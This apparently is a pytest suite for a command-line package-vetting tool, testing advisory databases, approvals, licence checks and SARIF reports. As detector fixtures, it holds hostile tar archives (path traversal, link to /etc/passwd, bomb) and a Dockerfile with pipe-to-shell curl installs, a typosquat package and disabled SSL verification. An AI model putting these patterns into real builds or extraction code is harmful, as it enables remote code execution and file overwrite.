"""berth vet on the command line: packages judged by a policy, approved, refused again; databases that are replaced whole or
not at all. Nothing here asks an index but the last test."""
import contextlib
import http.server
import io
import json
import os
import pathlib
import subprocess
import tarfile
import threading
import time

import pytest

from calls import BERTH, ROOT
from figures import figure
from package_index import Index, wheel
from references import References, require

pytestmark = pytest.mark.third_lane

ADVISORIES = os.path.join(os.path.dirname(ROOT), 'shared', 'data', 'pypa-advisories-2024-10.tar.gz')
WEAK = {'id': 'CVE-2026-1', 'summary': 'bad', 'modified': '2026-01-01T00:00:00Z',
        'severity': [{'type': 'CVSS_V3', 'score': 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H'}],
        'affected': [{'package': {'ecosystem': 'PyPI', 'name': 'zz-thing'},
                      'ranges': [{'type': 'ECOSYSTEM', 'events': [{'introduced': '0'}, {'fixed': '2.0'}]}], 'versions': ['1.0']}]}
APPROVAL = """version: 1
approvals:
- {package: zz-thing, rule: advisory.critical, reason: behind a wall, who: ada, until: %s}
"""


@pytest.fixture(autouse=True)
def untouched():
    """Nothing here makes a container: there is no need to look at the machine."""


@pytest.fixture(scope='module')
def references():
    made = References()
    yield made
    made.end()


class Vet:
    """The program with a configuration and a state of its own, and an installed package to judge."""

    def __init__(self, folder):
        self.folder = folder
        self.state = folder / 'state' / 'vet'
        (folder / 'berth.yaml').write_text('version: 1\nstorage:\n' + ''.join(
            '  %s: %s\n' % (name, folder / name) for name in ('state', 'cache', 'runtime')))
        self.installed('zz_thing', '1.0', 'License-Expression: MIT')

    def installed(self, name, version, *fields):
        metadata = self.folder / 'lib' / ('%s-%s.dist-info' % (name, version))
        metadata.mkdir(parents=True, exist_ok=True)
        (metadata / 'METADATA').write_text('\n'.join(('Metadata-Version: 2.4', 'Name: ' + name, 'Version: ' + version) + fields) + '\n')

    def __call__(self, *words, program=BERTH, env=()):
        return subprocess.run([program, 'vet', *map(str, words)], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True, timeout=120, env={**os.environ, **dict(env), 'BERTH_CONFIG': str(self.folder / 'berth.yaml')})

    def judged(self, *words):
        """(exit code, the report) of the installed packages."""
        done = self('--json', *words, '%s/lib/' % self.folder)
        return done.returncode, json.loads(done.stdout)

    def imported(self, content, name='ours'):
        path = self.folder / 'import'
        path.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())
        return self('db', 'import', '--name', name, path)


@pytest.fixture
def vet(tmp_path):
    return Vet(tmp_path)


def rules(report):
    return {finding['rule']: finding for package in report['packages'] for finding in package['findings'] if finding['verdict'] != 'allow'}


def test_a_package_is_refused_approved_and_refused_again(vet):
    assert vet.imported(WEAK).returncode == 0
    code, report = vet.judged()
    assert (code, list(rules(report))) == (1, ['advisory.critical'])
    assert rules(report)['advisory.critical']['remedy'] == 'use 2.0 or later'
    (vet.folder / 'approvals.yaml').write_text(APPROVAL % '2199-12-31')
    code, report = vet.judged()
    assert (code, rules(report)['advisory.critical']['approval']['who']) == (0, 'ada')
    (vet.folder / 'approvals.yaml').write_text(APPROVAL % '2020-12-31')
    code, report = vet.judged()
    assert code == 1 and 'is over and does not count, though it would be needed' in report['notes'][0]
    vet.installed('zz_thing', '1.0', 'License-Expression: MIT AND GPL-3.0-only')
    assert 'licence.denied' in rules(vet.judged()[1])


def test_the_policy_is_read_beside_the_configuration_and_its_mistakes_are_told(vet):
    vet.imported(WEAK)
    (vet.folder / 'vet.yaml').write_text('version: 1\nadvisories: {critical: ask}\n')
    assert vet.judged()[0] == 3
    (vet.folder / 'vet.yaml').write_text('version: 1\nadvisories: {max_age: 0}\n')
    assert vet.judged()[1]['general'][0]['rule'] == 'database.stale'
    (vet.folder / 'vet.yaml').write_text('version: 1\nadvisoriez: {}\n')
    done = vet('%s/lib/' % vet.folder)
    assert done.returncode == 2 and "vet.yaml:2:1: 'advisoriez' is no key here; did you mean 'advisories'?" in done.stderr, done


def test_a_policy_that_is_there_but_cannot_be_read_is_an_error(vet):
    vet.imported(WEAK)
    for name in 'vet.yaml', 'approvals.yaml':
        (vet.folder / name).symlink_to('/nonexistent/file')
        done = vet('%s/lib/' % vet.folder)
        assert done.returncode == 2 and name + "' is a link to what is not there" in done.stderr, done
        (vet.folder / name).unlink()
        (vet.folder / name).mkdir()
        assert vet('%s/lib/' % vet.folder).returncode == 2
        (vet.folder / name).rmdir()


def test_a_report_says_by_which_policy_and_approvals_it_judges(vet):
    vet.imported(WEAK)
    assert 'judged by the default policy, with no approvals' in vet('%s/lib/' % vet.folder).stdout
    (vet.folder / 'vet.yaml').write_text('version: 1\n')
    (vet.folder / 'approvals.yaml').write_text(APPROVAL % '2199-12-31')
    said = vet('%s/lib/' % vet.folder).stdout
    assert "judged by the policy '%s/vet.yaml' (SHA-256 " % vet.folder in said, said
    assert "with the approvals '%s/approvals.yaml' (SHA-256 " % vet.folder in said, said
    report = vet.judged()[1]
    assert (report['policy']['file'], report['approvals']['file']) == tuple(
        str(vet.folder / name) for name in ('vet.yaml', 'approvals.yaml'))


def tar_of(*members):
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode='w:gz') as archive:
        for name, content, kind in members:
            member = tarfile.TarInfo(name)
            member.type, member.size, member.linkname = kind, len(content), '/etc/passwd'
            archive.addfile(member, io.BytesIO(content))
    return packed.getvalue()


GOOD = ('a.json', json.dumps(WEAK).encode(), tarfile.REGTYPE)
HOSTILE = {
    'half a file': tar_of(GOOD)[:-30],
    'a path that leads out': tar_of(('../../a.json', GOOD[1], tarfile.REGTYPE)),
    'an absolute path': tar_of(('/a.json', GOOD[1], tarfile.REGTYPE)),
    'a symbolic link': tar_of(GOOD, ('b.json', b'', tarfile.SYMTYPE)),
    'a hard link': tar_of(GOOD, ('b.json', b'', tarfile.LNKTYPE)),
    'a device': tar_of(GOOD, ('b.json', b'', tarfile.CHRTYPE)),
    'a bomb': tar_of(GOOD, ('b.bin', bytes(20 << 20), tarfile.REGTYPE)),
    'an archive in an archive': tar_of(('a.json', tar_of(GOOD), tarfile.REGTYPE)),
    'deep nesting': b'[' * 100000,
    'nothing': b'',
    'words': b'no advisory',
    'records that cannot be read': json.dumps([{'id': 'A'}, {'no': 'id'}]).encode(),
}


@pytest.mark.parametrize('what', HOSTILE)
def test_what_cannot_be_imported_changes_nothing(vet, what):
    vet.imported(WEAK)
    before = {path.name: path.read_bytes() for path in vet.state.iterdir()}
    done = vet.imported(HOSTILE[what])
    assert done.returncode in (2, 12) and 'nothing is changed: ' in done.stderr and done.stdout == '', done
    assert {path.name: path.read_bytes() for path in vet.state.iterdir()} == before
    assert list(rules(vet.judged()[1])) == ['advisory.critical']


def test_a_damaged_database_gives_way_to_the_one_before_it_and_that_is_said(vet):
    vet.imported(WEAK)
    vet.imported(dict(WEAK, id='CVE-2026-2'))
    current = vet.state / 'ours.advisories'
    content = bytearray(current.read_bytes())
    content[len(content) // 2] ^= 1
    current.write_bytes(content)
    _, report = vet.judged()
    assert 'CVE-2026-1' in rules(report)['advisory.critical']['evidence']
    assert report['general'][0]['rule'] == 'database.damaged' and 'the one before it is in use' in report['general'][0]['evidence']
    assert 'the one before it is in use' in vet('db', 'status').stdout
    assert vet('db', 'remove', 'ours').returncode == 0 and list(vet.state.iterdir()) == []


@contextlib.contextmanager
def server(content):
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header('Content-Length', str(len(content) + 1))  # and then it goes away
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_):
            pass

    listening = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
    threading.Thread(target=listening.serve_forever, daemon=True).start()
    yield listening.server_address[1]
    listening.shutdown()
    listening.server_close()


def test_an_update_takes_each_source_for_itself_and_only_https(vet):
    good = vet.folder / 'good.json'
    good.write_text(json.dumps(WEAK))
    policy = 'version: 1\nadvisories:\n  sources:\n    good: %s\n    bad: %s\n'
    (vet.folder / 'vet.yaml').write_text(policy % (good, vet.folder / 'missing.json'))
    done = vet('db', 'update')
    assert done.returncode == 12 and 'good: 1 advisories' in done.stdout, done
    assert 'bad: what was there stays in use: ' in done.stderr and 'missing.json' in done.stderr
    # A server without a certificate is none, whatever it sends.
    with server(json.dumps(WEAK).encode()) as port:
        (vet.folder / 'vet.yaml').write_text(policy % (good, 'https://127.0.0.1:%d/all.json' % port))
        done = vet('db', 'update', '--json')
    assert done.returncode == 12 and len(json.loads(done.stdout)['failures']) == 1, done
    (vet.folder / 'vet.yaml').write_text(policy % (good, 'http://127.0.0.1/all.json'))
    done = vet('db', 'update')
    assert done.returncode == 2 and 'neither an https address nor an absolute path' in done.stderr, done


def test_the_packaging_advisory_database_loads(vet):
    if not os.path.exists(ADVISORIES):
        require('advisories', None, "'%s' is not there" % ADVISORIES)
    done = vet('db', 'import', '--json', ADVISORIES)
    assert done.returncode == 0, done.stderr
    source = json.loads(done.stdout)['sources'][0]
    assert (source['name'], source['advisories'], source['withdrawn']) == ('pypa-advisories-2024-10', 2661, 10)
    assert source['contradictions'] == len([problem for problem in source['problems'] if 'is listed, and no range affects it' in problem])
    figure('vet', 'advisories read; listed versions against their own ranges', '2661; %d' % source['contradictions'])
    lock = vet.folder / 'requirements.txt'
    lock.write_text('django==3.2.0\n')
    done = vet('--offline', '--json', '-r', lock)
    found = rules(json.loads(done.stdout))
    assert done.returncode != 0 and any(rule.startswith('advisory.') for rule in found), done


def test_a_report_is_valid_sarif(vet, references):
    folder = require('sarif-multitool', *references.node(['@microsoft/sarif-multitool-linux@5.7.0']))
    vet.imported(WEAK)
    vet.installed('other\x1b[2J', '1', 'License: LIMITED USE ONLY')
    vet.installed('odd', 'latest', 'License: LIMITED USE ONLY')
    (vet.folder / 'approvals.yaml').write_text(APPROVAL % '2199-12-31')
    done = vet('--format', 'sarif', '%s/lib/' % vet.folder)
    assert done.returncode in (1, 3)
    report = vet.folder / 'report.sarif'
    report.write_text(done.stdout)
    tool = pathlib.Path(folder) / 'node_modules' / '@microsoft' / 'sarif-multitool-linux' / 'Sarif.Multitool'
    tool.chmod(0o755)
    checked = subprocess.run([tool, 'validate', report, '--output', vet.folder / 'checked.sarif', '--log', 'ForceOverwrite'],
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=120,
                             env={**os.environ, 'DOTNET_SYSTEM_GLOBALIZATION_INVARIANT': '1'})
    verdicts = json.loads((vet.folder / 'checked.sarif').read_text(encoding='utf-8-sig'))['runs'][0].get('results', [])
    errors = [result for result in verdicts if result.get('level', 'warning') == 'error']
    assert checked.returncode == 0 and errors == [], (checked.stdout, errors)


# C05 of the table of abuse: what each line is to be flagged by.
IMAGE_FOLDER = {
    'Dockerfile': '''FROM demisto/python3:latest
ARG PYPI_TOKEN
ENV DB_PASSWORD=canary-7c1
ADD http://files.example/tool.tar.gz /opt/
RUN curl -fsSL https://install.example/x | sh
RUN pip install --extra-index-url https://index.example/simple requsets berthgpl==1.0 berthnone==1.0
COPY requirements.txt /tmp/
RUN pip install -r /tmp/requirements.txt
ARG WHO=root
USER $WHO
RUN curl -fsSLo /tmp/get.py https://install.example/get.py
RUN PIP=pip; su -c "$PIP install berthgpl==1.0" && python3 /tmp/get.py && npm install -g x
ENV UV_INDEX_URL=https://index.example/simple GIT_SSL_NO_VERIFY=1 PIP_CONFIG_FILE=/etc/pip.conf
COPY --from=docker.io/x/y:latest /x /x
''',
    'requirements.txt': 'urllib==1.21.1\nsmalllib==1.0\n',
    'build.conf': 'version=1.0.0\ndevonly=false\n',
}
FLAGGED = {('build.moving-tag', 'Dockerfile', 1), ('build.secret', 'Dockerfile', 2), ('build.secret', 'Dockerfile', 3),
           ('build.remote-add', 'Dockerfile', 4), ('build.pipe-to-shell', 'Dockerfile', 5), ('build.extra-index', 'Dockerfile', 6),
           ('name.look-alike', 'Dockerfile', 6), ('licence.denied', 'Dockerfile', 6), ('name.unknown', 'Dockerfile', 6),
           ('build.root', 'Dockerfile', 10), ('build.pipe-to-shell', 'Dockerfile', 12), ('licence.denied', 'Dockerfile', 12),
           ('build.unread', 'Dockerfile', 12), ('build.extra-index', 'Dockerfile', 13), ('build.unverified', 'Dockerfile', 13),
           ('build.unread', 'Dockerfile', 13), ('build.moving-tag', 'Dockerfile', 14), ('name.malicious', 'requirements.txt', 1), ('build.unread', 'build.conf', 2)}


@pytest.fixture
def index():
    made = Index()
    made.add(wheel('smalllib', '1.0', {'smalllib.py': ''}))
    made.add(wheel('berthgpl', '1.0', {'berthgpl.py': ''}, licence='GPL-3.0-only'))
    made.add(wheel('requsets', '1.0', {'requsets.py': ''}))
    yield made
    made.end()


def image_folder(vet, files):
    folder = vet.folder / 'my-image'
    folder.mkdir(exist_ok=True)
    for name, text in files.items():
        (folder / name).write_text(text)
    return folder


def flagged(sarif):
    found = set()
    for result in sarif['runs'][0]['results']:
        place = result['locations'][0]['physicalLocation']
        found.add((result['ruleId'], place['artifactLocation']['uri'], place.get('region', {}).get('startLine', 0)))
    return found


def test_an_image_folder_is_flagged_line_by_line(vet, index, monkeypatch):
    vet.imported(WEAK)
    monkeypatch.setenv('PIP_INDEX_URL', index.url + '/simple')
    folder = image_folder(vet, IMAGE_FOLDER)
    done = vet('--format', 'sarif', '%s/' % folder)
    assert done.returncode == 1, done
    missing = FLAGGED - flagged(json.loads(done.stdout))
    assert not missing, (missing, done.stdout)
    assert 'canary-7c1' not in done.stdout + done.stderr
    figure('vet', 'C05: rules that flag an image folder', sorted({rule for rule, _, _ in FLAGGED}))
    # One approval lets one rule pass, for this folder.
    (vet.folder / 'approvals.yaml').write_text(APPROVAL.replace('zz-thing, rule: advisory.critical', 'my-image, ecosystem: image, rule: build.root')
                                               % '2199-12-31')
    report = json.loads(vet('--json', '%s/' % folder).stdout)
    image = [package for package in report['packages'] if package['ecosystem'] == 'Image'][0]
    approved = [finding['rule'] for finding in image['findings'] if finding.get('approval')]
    assert approved == ['build.root'] and image['verdict'] == 'refuse', report


# What an index of the tests has came out after the advisories that come with Berth.
UNSEEN = 'version: 1\nrules: {release.unseen: allow}\n'


def test_an_image_folder_in_order_passes(vet, index, monkeypatch):
    vet.imported(WEAK)
    (vet.folder / 'vet.yaml').write_text(UNSEEN)
    monkeypatch.setenv('PIP_INDEX_URL', index.url + '/simple')
    folder = image_folder(vet, {'Dockerfile': 'FROM demisto/python3:3.11.10.1\nCOPY requirements.txt .\n'
                                              'RUN pip install --no-cache-dir -r requirements.txt\n',
                                'requirements.txt': 'smalllib==1.0\n', 'build.conf': 'version=1.0.0\n'})
    done = vet('%s/' % folder)
    assert done.returncode == 0 and 'my-image' in done.stdout and 'smalllib 1.0' in done.stdout, done


def test_a_release_has_the_age_that_the_index_says(vet, index, monkeypatch):
    vet.imported(WEAK)
    (vet.folder / 'vet.yaml').write_text(UNSEEN)
    monkeypatch.setenv('PIP_INDEX_URL', index.url + '/simple')
    assert vet('smalllib==1.0').returncode == 0
    name = 'smalllib-1.0-py3-none-any.whl'
    index.uploaded[name] = time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(time.time() - 6 * 86400))
    done = vet('smalllib==1.0')
    assert done.returncode == 3 and 'release.young: released 20' in done.stdout, done
    index.uploaded[name], index.yanked[name] = '2026-01-01T00:00:00Z', 'it leaks'
    done = vet('smalllib==1.0')
    assert done.returncode == 1 and 'release.yanked: its authors have withdrawn the release: it leaks' in done.stdout, done
    del index.yanked[name]
    index.json_pages = False
    done = vet('smalllib==1.0')
    assert done.returncode == 3 and 'release.undated' in done.stdout and 'no pages in JSON' in done.stdout, done
    (vet.folder / 'vet.yaml').write_text(UNSEEN + 'releases: {min_age: 0}\n')
    assert vet('smalllib==1.0').returncode == 0
    index.yanked[name] = 'it "leaks"'
    done = vet('smalllib==1.0')
    assert done.returncode == 1 and 'withdrawn the release: it "leaks"' in done.stdout, done


def test_a_licence_that_pip_leaves_out_is_read_from_the_file(vet):
    """pip's report has no License-Expression before pip 25, and no licence files at all."""
    vet.imported(WEAK)
    index = Index()
    try:
        mit = wheel('zz_beside', '1.0', {'zz_beside.py': ''}, expression='MIT')
        gpl = wheel('zz_inside', '1.0', {'zz_inside.py': ''}, expression='GPL-3.0-only')
        lies = wheel('zz_lies', '1.0', {'zz_lies.py': ''}, expression='GPL-3.0-only')
        text = wheel('zz_text', '1.0', {'zz_text.py': ''}, licence='', licence_file=open('/usr/share/common-licenses/Apache-2.0').read())
        for one in (mit, gpl, lies, text):
            index.add(one)
        index.metadata = {mit[0]: None, lies[0]: index.own_metadata(lies[0]).replace(b'GPL-3.0-only', b'MIT')}
        env = {'PIP_INDEX_URL': index.url + '/simple', 'PIP_CONFIG_FILE': '/dev/null', 'no_proxy': '127.0.0.1'}
        asked = ['zz-beside==1.0', 'zz-inside==1.0', 'zz-text==1.0']
        report = json.loads(vet('--json', *asked, env=env).stdout)
        told = {one['name']: {finding['rule']: finding['evidence'] for finding in one['findings']} for one in report['packages']}
        assert "MIT (License-Expression: 'MIT')" == told['zz-beside']['licence.allowed'], told
        assert 'GPL-3.0-only (copyleft)' in told['zz-inside']['licence.denied'], told
        assert 'Apache-2.0 (LICENSE:' in told['zz-text']['licence.allowed'], told
        assert '/files/%s.metadata' % mit[0] in index.requests, index.requests
        # Other bytes than the index names are no metadata, whoever reads them first: the wheel says it.
        report = json.loads(vet('--json', 'zz-lies==1.0', env=env).stdout)
        assert report['verdict'] == 'refuse' and 'licence.allowed' not in json.dumps(report), report
        assert 'licence.denied' in [finding['rule'] for finding in report['packages'][0]['findings']], report
    finally:
        index.end()


def test_the_index_is_asked_through_pip(vet):
    """Where pip reaches an index; the policy's own example of the original passes as far as its packages go."""
    vet.imported(WEAK)
    asked = subprocess.run(['/usr/bin/python3', '-m', 'pip', 'download', '--quiet', '--no-deps', '--dest', vet.folder / 'pip', 'mechanize==0.4.10'],
                           stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=300)
    if asked.returncode != 0:
        require('index', None, asked.stdout[-300:])
    done = vet('--json', 'mechanize==0.4.10', 'no-such-package-of-berth==1.0')
    report = json.loads(done.stdout)
    by_name = {package['name']: package for package in report['packages']}
    assert by_name['mechanize']['verdict'] == 'allow', done.stdout
    assert any('BSD' in statement['expression'] for statement in by_name['mechanize']['licences'])
    assert by_name['no-such-package-of-berth']['findings'][0]['rule'] == 'name.unknown'
